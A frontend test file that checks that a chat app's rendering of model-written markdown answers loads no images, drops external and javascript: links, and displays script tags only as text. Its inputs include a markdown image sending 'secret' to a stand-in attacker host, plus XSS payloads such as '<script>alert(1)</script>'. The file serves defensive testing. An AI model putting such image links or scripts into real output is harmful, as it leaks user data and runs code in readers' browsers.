import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import {
  createMemoryHistory,
  createRootRoute,
  createRouter,
  RouterProvider,
} from "@tanstack/react-router";
import { cleanup, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import fc from "fast-check";
import { afterEach, expect, it } from "vitest";
import { citation, makeMessage } from "../testing/chat.tsx";
import { Answer } from "./answer.tsx";
import { ParsedText } from "./parsed-text.tsx";

afterEach(cleanup);

async function mount(text: string, part = {}): Promise<HTMLElement> {
  const message = makeMessage({ text, ...part });
  const root = createRootRoute({
    component: () => <Answer message={message} onAskAgain={undefined} isNew={false} />,
  });
  const history = createMemoryHistory({ initialEntries: ["/"] });
  const router = createRouter({ routeTree: root, history });
  await router.load();
  const { container } = render(
    <QueryClientProvider client={new QueryClient()}>
      <RouterProvider router={router as never} />
    </QueryClientProvider>,
  );
  await waitFor(() => expect(container.querySelector("p, h3, ul, table, pre")).not.toBeNull());
  return container;
}

const awkwardPieces = [
  "[1]",
  "![",
  "](",
  ")",
  "<img src=x>",
  "<a href=//e.example>",
  "https://e.example",
  "\n\n",
  "`",
  "```\n",
  "| a | b |\n|---|---|\n",
  "- ",
  "1. ",
  "> ",
  "**",
  "[1]: //e.example\n",
  "&#x3C;",
];
const nothingCited = { citations: [] };

it("loads no picture and keeps no external link, whatever the text contains", async () => {
  const page = await mount(
    [
      "See ![a pixel](https://evil.example/p.png?q=secret) and [this](https://evil.example/x),",
      "<img src=https://evil.example/y> <script>alert(1)</script> https://evil.example/auto",
      "[script](javascript:alert(1)) [other](//evil.example/entry/1) [own](/entry/abc-1)",
    ].join("\n"),
    nothingCited,
  );
  expect(page.querySelectorAll("img, script, iframe, object, svg image, form, input")).toHaveLength(
    0,
  );
  const links = [...page.querySelectorAll("a")].map((link) => link.getAttribute("href"));
  expect(links).toEqual(["/entry/abc-1"]);
  expect(page.textContent).toContain("a pixel");
  expect(page.textContent).toContain("<script>alert(1)</script>");
});

it("keeps a citation when the text contains a link definition", async () => {
  const page = await mount("So it is [1].\n\n[1]: https://evil.example/x\n\n[^1]: a note");
  const markers = screen.getAllByRole("link", { name: /^Source 1: / });
  for (const marker of markers) {
    expect(marker.getAttribute("href")).toBe("/entry/entry-1?at=12-44");
  }
  expect(page.querySelector("[href*=evil]")).toBeNull();
});

it("turns only cited numbers into markers, and keeps brackets in code", async () => {
  const page = await mount("Two [1] and [7], `list[1]`.");
  expect(screen.getAllByRole("link", { name: /^Source/ })).toHaveLength(1);
  expect(page.textContent).toContain("and [7]");
  expect(page.querySelector("code")!.textContent).toBe("list[1]");
});

it("drops markers without a source in a stopped answer", async () => {
  const page = await mount("Half of it [1] and [2].", { outcome: "stopped" });
  expect(page.querySelector("p")!.textContent).toBe("Half of it1 and.");
});

it("links to the user's note, and sets it apart", async () => {
  await mount("You said so [1].", {
    citations: [{ ...citation, field: "why", start: null, end: null, quote: "Resistance." }],
  });
  expect(screen.getByRole("link", { name: /^Source 1/ }).getAttribute("href")).toBe(
    "/entry/entry-1#why",
  );
  screen.getByText("Your note");
});

it("lists quotes among the sources, unless the answer is that quote", async () => {
  const { quote } = citation;
  const own = await mount("In other words [1].");
  expect(own.querySelector("blockquote")!.textContent).toBe(`“${quote}”`);
  cleanup();
  const quoting = await mount(`“${quote.replace(".", "\\.")}” [1]`);
  expect(quoting.querySelector("blockquote")).toBeNull();
});

it("highlights the source of a marker that is hovered or focused", async () => {
  const user = userEvent.setup();
  const page = await mount("So it is [1].");
  const lit = () => page.querySelectorAll("[data-pointed-at]").length;
  expect(lit()).toBe(0);
  await user.hover(screen.getByRole("link", { name: /^Source 1/ }));
  expect(lit()).toBe(1);
  await user.unhover(screen.getByRole("link", { name: /^Source 1/ }));
  expect(lit()).toBe(0);
  await user.tab();
  expect(lit()).toBe(1);
});

it("gives each block the direction of its text, and code none", async () => {
  const page = await mount("الماء في البئر.\n\n- قناة\n- بئر\n\nThe well.\n\n```\nx = 1\n```");
  const blocks = [...page.querySelectorAll("p, ul, li, pre")];
  expect(blocks.slice(0, 6).map((one) => [one.localName, one.getAttribute("dir")])).toEqual([
    ["p", "auto"],
    ["ul", "auto"],
    ["li", null],
    ["li", null],
    ["p", "auto"],
    ["pre", null],
  ]);
});

it("names the author: a model, or the saved sentences themselves", async () => {
  const byModel = await mount("Text.", { model: "anthropic: claude-haiku-4-5", ...nothingCited });
  expect(byModel.textContent).toContain("Written by anthropic: claude-haiku-4-5");
  const quoted = await mount("Text.", nothingCited);
  expect(quoted.textContent).toContain("Sentences from what you saved");
});

it("renders any text without an element that loads or runs something", () => {
  const piece = fc.constantFrom(...awkwardPieces);
  fc.assert(
    fc.property(
      fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 25 }),
      (pieces) => {
        const { container, unmount } = render(<ParsedText text={pieces.join("")} />);
        expect(
          container.querySelectorAll("img, a, script, iframe, style, link, input"),
        ).toHaveLength(0);
        unmount();
      },
    ),
    { numRuns: 150 },
  );
});
